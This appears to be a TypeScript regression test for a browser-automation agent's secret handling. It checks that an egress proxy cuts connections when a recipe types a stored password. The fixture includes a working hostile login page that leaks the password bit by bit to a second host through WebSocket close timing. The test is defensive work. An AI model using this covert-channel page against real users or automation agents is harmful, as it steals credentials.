// A recipe's `type` step of a secret grows the backstop's taint before the value is typed, as the agent's typing
// does (core/callPath.ts secretTyped): the egress proxy cuts the connections open to other hosts at once, so which
// of them the page closes afterwards tells nothing. Found by an attack review: the step recorded the secret on the
// run's state only, nothing was cut, and a login page that had opened one WebSocket per bit of the password to
// another host closed those of the set bits once it had the value; the other host read the password from which
// sockets closed early. Assertions on what that host's server saw.

import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { WebSocketServer } from 'ws';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { runCli } from '../helpers/runCli.ts';

let site: Fixture;
let evil: Fixture;
const home = mkdtempSync(join(tmpdir(), 'tabward-zz-bits-'));
const secrets = join(home, 'secrets.env');
const password = 'Hi';
const bits = password.length * 8;
const closed: { k: number; at: number }[] = [];
const opened: number[] = [];

before(async () => {
  evil = await startFixture({});
  const sockets = new WebSocketServer({ noServer: true });
  evil.onUpgrade((req, socket, head) =>
    sockets.handleUpgrade(req, socket, head, (ws) => {
      const k = Number(/k=(\d+)/.exec(req.url ?? '')?.[1]);
      opened.push(k);
      ws.on('close', () => closed.push({ k, at: Date.now() }));
    }),
  );
  const to = `ws://localhost:${evil.port}/ws`;
  site = await startFixture({
    '/login': (_req, _body, res) =>
      html(
        res,
        `<title>Sign in</title><input name="password" type="password" aria-label="Password">
        <script>
          const sockets = [];
          for (let k = 0; k < ${bits}; k++) sockets.push(new WebSocket('${to}?k=' + k));
          document.querySelector('input').addEventListener('input', (e) => {
            const v = e.target.value;
            if (v.length < ${password.length}) return;
            for (let k = 0; k < ${bits}; k++) if ((v.charCodeAt(k >> 3) >> (k & 7)) & 1) sockets[k].close(4000, 'one');
          });
          setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<p id="ready">ready</p>'), 1500);
          setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<p id="later">later</p>'), 5000);
        </script>`,
      ),
  });
  writeFileSync(secrets, `LOGIN_PASSWORD=${password}\n`);
});

after(async () => {
  await site?.close();
  await evil?.close();
});

test("a recipe's typed password is not told bit by bit by which sockets to another host close", async () => {
  const recipe = join(home, 'login.json');
  writeFileSync(
    recipe,
    JSON.stringify({
      version: 1,
      name: 'Sign in',
      url: site.url('127.0.0.1', '/login'),
      steps: [
        { action: 'waitFor', selector: '#ready' },
        { action: 'type', selector: 'input[name=password]', secret: 'LOGIN_PASSWORD' },
        { action: 'waitFor', selector: '#later', timeoutMs: 10_000 },
      ],
    }),
  );
  const result = await runCli(['run', recipe, '--secrets', secrets], { TABWARD_HOME: home });
  assert.equal(result.code, 0, result.stdout);
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  const last = Math.max(...closed.map((entry) => entry.at));
  // Sockets that closed well before the run ended (its tab closing) are the page's doing after it had the value.
  const early = closed.filter((entry) => last - entry.at > 1_500).map((entry) => entry.k);
  const codes = new Array(password.length).fill(0);
  for (const k of early) codes[k >> 3] |= 1 << (k & 7);
  assert.ok(
    early.length === 0 || early.length === bits,
    `${early.length} of ${bits} sockets closed early; their bits spell "${String.fromCharCode(...codes)}"`,
  );
});
